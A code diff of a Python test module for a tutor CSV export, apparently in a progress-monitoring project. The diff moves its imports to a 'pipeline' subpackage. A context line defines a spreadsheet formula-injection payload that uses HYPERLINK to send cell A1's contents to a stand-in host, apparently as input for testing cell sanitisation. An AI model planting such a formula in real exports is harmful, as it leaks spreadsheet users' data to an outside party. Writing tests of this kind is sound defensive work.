@@ -16,8 +16,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from progress_monitor import reporting
-from progress_monitor.reporting import TUTOR_CSV_COLUMNS, csv_cell, export_tutors
+from progress_monitor.pipeline import reporting
+from progress_monitor.pipeline.reporting import TUTOR_CSV_COLUMNS, csv_cell, export_tutors
 from progress_monitor.settings import Settings
 
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ver")'
